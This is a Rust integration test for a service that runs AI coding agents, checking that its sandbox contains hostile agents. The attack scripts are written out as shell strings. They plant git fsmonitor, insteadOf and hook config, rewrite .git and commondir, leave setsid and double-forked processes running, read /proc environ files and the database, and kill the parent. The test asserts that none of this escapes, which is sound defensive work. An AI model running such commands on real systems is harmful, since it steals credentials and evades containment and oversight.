//! Hostile agents through the real binary and the real dispatcher. Each fake agent tries one attack from ticket
//! text an attacker wrote: take over pidevops's own git after it exits (rewrite `.git`, rewrite `commondir`,
//! plant fsmonitor / insteadOf / extraHeader config), outlive its run (a `setsid` sleeper, a double-forked child)
//! and write into the next task's worktree, read another repository's mirror, the database and the service's
//! environment (`/proc/<ppid>/environ`, every `/proc/*/environ`), dump its own environment. All of it would be
//! committed and pushed if it got anything. Each gets nothing out: a local HTTP server receives no request, no
//! secret appears in any pushed branch, log, event or output, nothing it started survives, and the next task's
//! push holds only its own work. A benign agent still pushes normally.
//!
//! Run twice: with bubblewrap (`namespaces`) and with bubblewrap absent (`landlock` and the reaper).

use std::path::{Path, PathBuf};
use std::time::Duration;

use crate::common::agents::{agent, Remote};
use crate::common::server::{read_log, Server};
use crate::common::within;
use serde_json::{json, Value};

const SECRET_TOKEN: &str = "ghp_HOSTILEtokenNEVERtoBEseen0123456789";
const SECRET_ADMIN: &str = "admin-HOSTILE-never-to-be-seen-0123456789";
const SECRET_LINEAR: &str = "lin_api_HOSTILE_never_to_be_seen";
const PRIVATE_SECRET: &str = "PRIVATE-REPOSITORY-SECRET-4242";
/// In the argv of every process an attack leaves behind (`sleep <mark>`), to find survivors: one per test, since
/// both run at once, and per test process, since another run of the suite on the same machine leaves its own
/// survivors-to-be while its runs last. Fixed width, so no mark is part of another.
fn survivor_mark(containment: &str) -> String {
    let test = if containment == "namespaces" { 1 } else { 2 };
    format!("3607.{:07}{test}", std::process::id())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn hostile_agents_get_nothing_out_with_namespaces() {
    hostile_agents_get_nothing_out("bwrap", "namespaces").await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn hostile_agents_get_nothing_out_with_landlock_when_bubblewrap_is_absent() {
    hostile_agents_get_nothing_out("/nonexistent/bwrap", "landlock").await;
}

/// A loopback HTTP server that counts every request it receives (an escaped push, a redirected fetch).
async fn loot_server() -> (String, std::sync::Arc<std::sync::Mutex<Vec<String>>>) {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let url = format!("http://{}", listener.local_addr().unwrap());
    let seen = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
    let record = seen.clone();
    tokio::spawn(async move {
        use tokio::io::{AsyncReadExt, AsyncWriteExt};
        while let Ok((mut socket, _)) = listener.accept().await {
            let record = record.clone();
            tokio::spawn(async move {
                let mut buffer = vec![0u8; 16 * 1024];
                let n = socket.read(&mut buffer).await.unwrap_or(0);
                record
                    .lock()
                    .unwrap()
                    .push(String::from_utf8_lossy(&buffer[..n]).into_owned());
                let _ = socket
                    .write_all(b"HTTP/1.1 401 Unauthorized\r\nWWW-Authenticate: Basic realm=\"x\"\r\nContent-Length: 0\r\n\r\n")
                    .await;
            });
        }
    });
    (url, seen)
}

struct Scene {
    _scratch: tempfile::TempDir,
    agents: PathBuf,
    loot: PathBuf,
    ws: PathBuf,
    db_file: PathBuf,
    app: Remote,
    private: Remote,
}

impl Scene {
    fn new() -> Self {
        // Not under /tmp: in a sandbox /tmp is the agent's own scratch space, so paths beneath it would not show
        // what a production WORKSPACE_ROOT (say /data) shows: a read-only root around what the agent is given.
        let scratch = crate::common::contained_scratch();
        let agents = scratch.path().join("agents");
        let loot = scratch.path().join("loot");
        for dir in [&agents, &loot] {
            std::fs::create_dir_all(dir).unwrap();
        }
        let private = Remote::new();
        private.commit_to_main("secret.txt", &format!("{PRIVATE_SECRET}\n"));
        Self {
            ws: scratch.path().join("ws"),
            db_file: scratch.path().join("data").join("pidevops.db"),
            _scratch: scratch,
            agents,
            loot,
            app: Remote::new(),
            private,
        }
    }
}

/// The attacks, as fake agents. Each also makes a change of its own, so its run succeeds and pidevops commits
/// and pushes what it left: whatever it stole would be on its branch.
fn attack_scripts(scene: &Scene, loot_url: &str, mark: &str) -> Vec<(&'static str, PathBuf)> {
    let loot = scene.loot.display();
    let db = scene.db_file.display();
    let evil = scene.agents.join("evil.sh");
    // What any of pidevops's own git commands would run if it read the agent's config: it records that it ran
    // and copies the environment of its parent (pidevops) and of every process it can see.
    std::fs::write(
        &evil,
        format!(
            "#!/bin/sh\necho ran > {loot}/fsmonitor-ran\ncat /proc/$PPID/environ > {loot}/parent-environ 2>/dev/null\n\
             for p in /proc/[0-9]*; do cat $p/environ; done > {loot}/all-environ 2>/dev/null\nexit 0\n"
        ),
    )
    .unwrap();
    {
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(&evil, std::fs::Permissions::from_mode(0o755)).unwrap();
    }
    let evil = evil.display();
    let planted_config = format!(
        "[core]\n\tfsmonitor = {evil}\n\thooksPath = {hooks}\n[url \"{loot_url}/\"]\n\tinsteadOf = file://\n\
         \tpushInsteadOf = file://\n[http]\n\textraHeader = X-Planted: 1\n",
        hooks = scene.agents.display()
    );
    let mirror_of = r#"ws="${PWD%/runs/*}"; mirror="$ws/mirrors/acme/app.git""#;
    vec![
        (
            "rewrites-git",
            agent(
                &scene.agents,
                "rewrites-git.sh",
                &format!(
                    r#"{mirror_of}
mkdir -p "$HOME/evil.git" && git init -q --bare "$HOME/evil.git"
cat > "$HOME/evil.git/config" <<'EOF'
{planted_config}EOF
cp "$HOME/evil.git/config" .git/config 2>&1
rm -rf .git && printf 'gitdir: %s\n' "$HOME/evil.git" > .git
for d in "$mirror"/worktrees/*; do
  printf '%s\n' "$HOME/evil.git" > "$d/commondir" && echo "rewrote commondir $d"
  printf 'gitdir: %s\n' "$HOME/evil.git" > "$d/gitdir" && echo "rewrote gitdir $d"
done
cat > "$mirror/config" <<'EOF' && echo "planted mirror config"
{planted_config}EOF
echo hooked > "$mirror/hooks/pre-push" && echo "planted a hook"
echo "attack: git" > attack-git.txt"#
                ),
            ),
        ),
        (
            "survives",
            agent(
                &scene.agents,
                "survives.sh",
                &format!(
                    r#"here="$PWD"
setsid sh -c "while true; do date +%s%N > '$here/leftover-setsid' 2>/dev/null; echo x >> {loot}/setsid-alive 2>/dev/null; sleep {mark}; done" < /dev/null > /dev/null 2>&1 &
( ( sh -c "while true; do date +%s%N > '$here/leftover-double-fork' 2>/dev/null; echo x >> {loot}/fork-alive 2>/dev/null; sleep {mark}; done" < /dev/null > /dev/null 2>&1 & ) & )
sleep 0.3
echo "attack: survive" > attack-survive.txt"#
                ),
            ),
        ),
        (
            "snoops",
            agent(
                &scene.agents,
                "snoops.sh",
                &format!(
                    r#"ws="${{PWD%/runs/*}}"
env > env-dump.txt
cat /proc/$PPID/environ > ppid-environ.txt 2>&1
for p in /proc/[0-9]*; do cat $p/environ 2>/dev/null; echo; done > all-environ.txt
cat /proc/1/environ > init-environ.txt 2>&1
ls -laR "$ws/mirrors" > mirrors-listing.txt 2>&1
git --git-dir="$ws/mirrors/acme/private.git" show origin/main:secret.txt > private-secret.txt 2>&1
cat "$ws"/mirrors/acme/private.git/objects/*/* > private-objects.bin 2>/dev/null
cp {db} stolen.db 2>&1; cat {db}-wal > stolen.db-wal 2>&1
ls -la "$ws/runs" > runs-listing.txt 2>&1
cat "$ws"/runs/*/*/agent.log > other-logs.txt 2>&1
kill -9 $PPID 2>&1
echo "attack: snoop" > attack-snoop.txt"#
                ),
            ),
        ),
        (
            "benign",
            agent(
                &scene.agents,
                "benign.sh",
                r#"title=$(head -n 1 "$1" | sed 's/^Task: //')
git status --short > /dev/null || { echo "git does not work here"; exit 1; }
echo "$title" > "done-by-$title.txt"
git add -A && git -c user.name=agent -c user.email=agent@localhost commit -q -m "agent's own commit" || exit 1
echo "benign work done""#,
            ),
        ),
    ]
}

async fn hostile_agents_get_nothing_out(bwrap: &str, containment: &str) {
    let scene = Scene::new();
    let (loot_url, requests) = loot_server().await;
    let mark = survivor_mark(containment);
    let scripts = attack_scripts(&scene, &loot_url, &mark);
    let mut agents = String::new();
    for (name, script) in &scripts {
        agents.push_str(&format!(
            "[agents.{name}]\ncommand = [\"{}\", \"{{prompt_file}}\"]\n",
            script.display()
        ));
    }
    let config = format!(
        r#"
[board]
approval = "auto"

[dispatch]
agent = "benign"
max_concurrent = 1
per_repo = 1
heartbeat_s = 0.5
retry_backoff_s = 0.05
bwrap = "{bwrap}"

{agents}
[repos."acme/app"]
url = "{app}"

[repos."acme/private"]
url = "{private}"
"#,
        app = scene.app.url(),
        private = scene.private.url(),
    );
    let config_path = scene.agents.parent().unwrap().join("pidevops.toml");
    std::fs::write(&config_path, config).unwrap();
    std::fs::create_dir_all(scene.db_file.parent().unwrap()).unwrap();
    let db_url = format!("sqlite://{}", scene.db_file.display());
    let dead_api = "http://127.0.0.1:9";
    let server = Server::start_with(
        &db_url,
        &[
            ("PIDEVOPS_CONFIG", config_path.to_str().unwrap()),
            ("WORKSPACE_ROOT", scene.ws.to_str().unwrap()),
            ("GITHUB_TOKEN", SECRET_TOKEN),
            ("PIDEVOPS_ADMIN_TOKEN", SECRET_ADMIN),
            ("LINEAR_API_KEY", SECRET_LINEAR),
            ("GITHUB_API_URL", dead_api),
            ("LINEAR_API_URL", dead_api),
        ],
    )
    .await;
    let client = reqwest::Client::new();
    let api = |path: &str| format!("{}{path}", server.base);

    // /health names the containment in force.
    let health: Value = client
        .get(api("/health"))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    let health_text = health.to_string();
    assert!(
        health_text.contains(&format!("\"containment\":\"{containment}\"")),
        "{health_text}"
    );

    let create = |repo: &str, title: &str, profile: &str| {
        let body = json!({
            "repo": repo,
            "agent": profile,
            "spec": { "task": title, "scope": "everything", "done_when": "done" }
        });
        let request = client
            .post(api("/api/tasks"))
            .bearer_auth(SECRET_ADMIN)
            .json(&body);
        async move {
            let response = request.send().await.unwrap();
            let status = response.status();
            let body: Value = response.json().await.unwrap();
            assert!(status.is_success(), "{status}: {body}");
            body["task"]["id"].as_str().unwrap().to_owned()
        }
    };
    let task = |id: String| {
        let request = client
            .get(api(&format!("/api/tasks/{id}")))
            .bearer_auth(SECRET_ADMIN);
        async move {
            let body: Value = request.send().await.unwrap().json().await.unwrap();
            body
        }
    };
    let in_review = |id: String| {
        let (workdir, ws) = (server.workdir.path().to_owned(), scene.ws.clone());
        async move {
            let deadline = tokio::time::Instant::now() + Duration::from_secs(90);
            loop {
                let shown = task(id.clone()).await;
                if shown["task"]["column"] == "in-review" {
                    return;
                }
                assert!(
                    tokio::time::Instant::now() < deadline
                        && shown["task"]["needs_human"].is_null(),
                    "{id} not in review: {shown}\nagent logs: {}\nserver log: {}",
                    agent_logs(&ws),
                    read_log(&workdir)
                );
                tokio::time::sleep(Duration::from_millis(100)).await;
            }
        }
    };

    // The private repository's mirror exists before anyone snoops.
    let private_task = create("acme/private", "private-marker-9f1c", "benign").await;
    in_review(private_task).await;

    let mut attacked = Vec::new();
    for name in ["rewrites-git", "survives", "snoops"] {
        let id = create("acme/app", name, name).await;
        in_review(id.clone()).await;
        attacked.push(id);
    }
    // Nothing the survivor attack started is alive once its run is over.
    within(Duration::from_secs(10), "no survivor of a run", || async {
        survivors(&mark).is_empty()
    })
    .await;
    let benign = create("acme/app", "benign", "benign").await;
    in_review(benign.clone()).await;

    // The benign agent pushed normally, and its branch holds only its own work.
    let branch = format!("pidevops/{benign}");
    assert_eq!(
        scene.app.show(&branch, "done-by-benign.txt").as_deref(),
        Some("benign\n")
    );
    assert_eq!(
        files_on(&scene.app, &branch),
        ["README.md", "done-by-benign.txt"]
    );

    // Every attack's own change was pushed: it ran, and what it left was committed.
    for (id, marker) in
        attacked
            .iter()
            .zip(["attack-git.txt", "attack-survive.txt", "attack-snoop.txt"])
    {
        let branch = format!("pidevops/{id}");
        assert!(
            scene.app.show(&branch, marker).is_some(),
            "{branch} lacks {marker}: {:?}",
            files_on(&scene.app, &branch)
        );
    }
    // ...but nothing it stole: no secret in any file on any branch.
    let secrets = [
        SECRET_TOKEN,
        SECRET_ADMIN,
        SECRET_LINEAR,
        PRIVATE_SECRET,
        crate::common::GITHUB_SECRET,
        "private-marker-9f1c",
    ];
    for id in attacked.iter().chain([&benign]) {
        let branch = format!("pidevops/{id}");
        for file in files_on(&scene.app, &branch) {
            let content = scene.app.show(&branch, &file).unwrap_or_default();
            for secret in secrets {
                assert!(
                    !content.contains(secret),
                    "{branch}:{file} holds a secret ({secret}): {content}"
                );
            }
        }
    }
    let snoop = format!("pidevops/{}", attacked[2]);
    let dump = scene.app.show(&snoop, "env-dump.txt").unwrap();
    assert!(dump.contains("HOME="), "{dump}");
    for name in [
        "GITHUB_TOKEN",
        "PIDEVOPS_ADMIN_TOKEN",
        "DATABASE_URL",
        "LINEAR_API_KEY",
    ] {
        assert!(!dump.contains(&format!("{name}=")), "{name}: {dump}");
    }
    // The stolen database copy is not there at all (not merely empty of the marker).
    assert!(scene.app.show(&snoop, "stolen.db").is_none());

    // pidevops's own git never ran what the agent planted, nor went where it pointed.
    let looted: Vec<_> = std::fs::read_dir(&scene.loot)
        .unwrap()
        .flatten()
        .map(|e| e.file_name())
        .collect();
    assert!(looted.is_empty(), "something escaped: {looted:?}");
    assert!(
        requests.lock().unwrap().is_empty(),
        "the loot server was called: {:?}",
        requests.lock().unwrap()
    );
    let mirror = scene.ws.join("mirrors/acme/app.git");
    let mirror_config = std::fs::read_to_string(mirror.join("config")).unwrap();
    for planted in ["fsmonitor", "insteadOf", "extraHeader", "hooksPath"] {
        assert!(!mirror_config.contains(planted), "{mirror_config}");
    }
    assert!(!mirror.join("hooks/pre-push").exists());
    if let Ok(entries) = std::fs::read_dir(mirror.join("worktrees")) {
        for admin in entries.flatten() {
            let commondir = std::fs::read_to_string(admin.path().join("commondir")).unwrap();
            assert_eq!(commondir.trim(), "../..", "{}", admin.path().display());
        }
    }

    // The agent logs show the attempts were refused, not unnoticed, and hold no secret either.
    let logs = agent_logs(&scene.ws);
    assert!(!logs.contains("planted mirror config"), "{logs}");
    assert!(!logs.contains("rewrote commondir"), "{logs}");
    assert!(!logs.contains("planted a hook"), "{logs}");
    assert!(logs.contains("benign work done"), "{logs}");
    let server_log = read_log(server.workdir.path());
    for secret in secrets.iter().take(5) {
        assert!(!logs.contains(secret), "an agent log holds {secret}");
        assert!(
            !server_log.contains(secret),
            "the server log holds {secret}"
        );
    }
    // No event carries a secret.
    let mut events = String::new();
    let mut after = 0;
    loop {
        let page: Value = client
            .get(api(&format!("/api/events?after={after}&limit=1000")))
            .bearer_auth(SECRET_ADMIN)
            .send()
            .await
            .unwrap()
            .json()
            .await
            .unwrap();
        let list = page
            .as_array()
            .or_else(|| page["events"].as_array())
            .cloned()
            .unwrap_or_else(|| panic!("{page}"));
        let Some(last) = list.last() else { break };
        after = last["position"].as_i64().unwrap();
        events.push_str(&Value::Array(list).to_string());
    }
    assert!(events.contains("run.succeeded"), "{events}");
    for secret in secrets.iter().take(5) {
        assert!(!events.contains(secret), "an event holds {secret}");
    }
    // The service survived `kill -9 $PPID`.
    let live = client.get(api("/health/live")).send().await.unwrap();
    assert!(live.status().is_success());
    assert!(survivors(&mark).is_empty(), "{:?}", survivors(&mark));
    drop(server);
}

/// Processes an attack left behind, found by the mark in their argv.
fn survivors(mark: &str) -> Vec<String> {
    let mut found = Vec::new();
    for entry in std::fs::read_dir("/proc").unwrap().flatten() {
        let Ok(cmdline) = std::fs::read(entry.path().join("cmdline")) else {
            continue;
        };
        let cmdline = String::from_utf8_lossy(&cmdline).replace('\0', " ");
        if cmdline.contains(mark) {
            found.push(format!(
                "{}: {cmdline}",
                entry.file_name().to_string_lossy()
            ));
        }
    }
    found
}

/// Every file on a branch of the remote, sorted.
fn files_on(remote: &Remote, branch: &str) -> Vec<String> {
    let out = std::process::Command::new("git")
        .args(["ls-tree", "-r", "--name-only", branch])
        .current_dir(remote.dir.path().join("remote.git"))
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let mut files: Vec<String> = String::from_utf8_lossy(&out.stdout)
        .lines()
        .map(str::to_owned)
        .collect();
    files.sort();
    files
}

fn agent_logs(ws: &Path) -> String {
    let mut all = String::new();
    let Ok(tasks) = std::fs::read_dir(ws.join("runs")) else {
        return all;
    };
    for task in tasks.flatten() {
        for run in std::fs::read_dir(task.path())
            .into_iter()
            .flatten()
            .flatten()
        {
            if let Ok(text) = std::fs::read_to_string(run.path().join("agent.log")) {
                all.push_str(&text);
            }
        }
    }
    all
}
